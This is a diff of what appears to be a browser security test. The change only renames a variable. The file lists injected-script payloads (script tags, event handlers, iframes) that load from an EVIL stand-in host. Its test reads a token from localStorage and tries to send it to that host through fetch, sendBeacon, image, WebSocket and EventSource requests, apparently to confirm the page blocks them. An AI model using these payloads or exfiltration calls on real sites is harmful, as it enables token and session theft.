@@ -14,7 +14,7 @@ const INJECTED = `
   <script type="module">import '${EVIL}/module.js'; window.stolen = 'module'</script>
   <script src="data:text/javascript,window.stolen='data'"></script>
   <img src="/no-such-picture" onerror="window.stolen = 'handler'">
-  <img src="${EVIL}/picture?by-address">
+  <img src="${EVIL}/picture?by-url">
   <svg onload="window.stolen = 'svg'"></svg>
   <iframe srcdoc="<script>parent.stolen = 'frame'</script>"></iframe>
   <iframe src="${EVIL}/frame"></iframe>
@@ -96,14 +96,14 @@ describe('a script injected into a page', () => {
     await page.goto('/');
     expect(await page.evaluate(() => localStorage.getItem('token'))).toMatch(/^ey/);
     await page.evaluate(async (evil) => {
-      const address = `${evil}/?${localStorage.getItem('token')}`;
-      await fetch(address).catch(() => undefined);
-      await fetch(address, { mode: 'no-cors' }).catch(() => undefined);
-      navigator.sendBeacon(address);
-      new Image().src = address;
+      const url = `${evil}/?${localStorage.getItem('token')}`;
+      await fetch(url).catch(() => undefined);
+      await fetch(url, { mode: 'no-cors' }).catch(() => undefined);
+      navigator.sendBeacon(url);
+      new Image().src = url;
       try {
-        new WebSocket(address.replace('https', 'wss'));
-        new EventSource(address);
+        new WebSocket(url.replace('https', 'wss'));
+        new EventSource(url);
       } catch {
         // Refused at once is as good.
       }
